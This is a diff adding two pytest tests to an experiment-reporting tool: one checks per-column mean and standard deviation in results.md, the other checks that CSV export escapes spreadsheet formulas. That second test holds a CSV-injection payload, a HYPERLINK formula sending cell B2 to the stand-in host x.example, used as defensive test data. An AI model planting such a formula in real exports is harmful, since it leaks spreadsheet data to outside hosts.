@@ -347,6 +347,47 @@ def test_summarize_statistics_and_o_end_figure(tmp_path):
         assert _is_png(tmp_path / name), name
 
 
+def test_each_cell_is_its_own_statistic_of_its_own_column(tmp_path):
+    """(review mut8 #4, #10, #11) Three seeds whose values are skewed (the median is not the mean) and whose best
+    epoch is not their last (the best and final spreads differ), and a fourth seed that failed (an accident, not a
+    divergence): each results.md cell is its column's mean and sample standard deviation."""
+    from reste import rundir
+
+    curves = [[50, 60, 55], [60, 60, 58], [61, 40, 45]]
+    seeds = {}
+    for seed, accs in enumerate(curves):
+        rel = f"runs/o1/seed{seed}"
+        _fake_run(tmp_path / rel, accs, [3, 2, 1], [0.1, 0.2, 0.3])
+        seeds[str(seed)] = rel
+    seeds["3"] = "runs/o1/seed3"
+    (tmp_path / "runs" / "o1" / "seed3").mkdir()
+    rundir.record_failure(tmp_path / "runs" / "o1" / "seed3", "RuntimeError: CUDA out of memory")
+    base = TrainConfig(dataset="digits", epochs=3, indicators="general").to_dict()
+    (tmp_path / "sweep.json").write_text(json.dumps({"base": base, "grid": {"o_end": [1]}, "seeds": [0, 1, 2, 3],
+                                                     "settings": [{"label": "o_end=1", "values": {"o_end": 1},
+                                                                   "key": "1", "runs": seeds}]}))
+    (row,) = summarize(tmp_path, plots=False, log=lambda message: None)
+    best, final = [max(c) for c in curves], [c[-1] for c in curves]
+    assert row["best_acc_mean"] == pytest.approx(statistics.fmean(best)) != statistics.median(best)
+    assert row["final_acc_mean"] == pytest.approx(statistics.fmean(final)) != statistics.median(final)
+    assert (row["n"], row["n_runs"], row["n_diverged"]) == (3, 4, 0)
+    line = (tmp_path / "results.md").read_text().splitlines()[-1]
+    assert line.startswith(f"| o_end=1 | {statistics.fmean(best):.2f} ± {statistics.stdev(best):.2f} | "
+                           f"{statistics.fmean(final):.2f} ± {statistics.stdev(final):.2f} |"), line
+    assert line.endswith("| 3/4 |") and "diverged" not in line
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_each_character_a_spreadsheet_takes_for_a_formula_is_escaped(tmp_path, start):
+    """(review mut8 #12) A cell starting with = + - @, a tab or a carriage return is a formula to a spreadsheet."""
+    from reste.experiments.report import _read_csv as read_back, write_csv
+
+    label = f'{start}1+HYPERLINK("http://x.example/?"&B2,"ste")'
+    write_csv(tmp_path / "runs.csv", [{"setting": label, "best_acc": 88.5}])
+    assert [row["setting"] for row in _read_csv(tmp_path / "runs.csv")] == ["'" + label]
+    assert [row["setting"] for row in read_back(tmp_path / "runs.csv")] == [label]
+
+
 def test_a_sweeps_one_run_is_named_in_its_figure(sweep, tmp_path):
     """(review newuser #1) --setting that leaves one run of a sweep drew it without its name: the legend names it."""
     from reste.experiments import plots
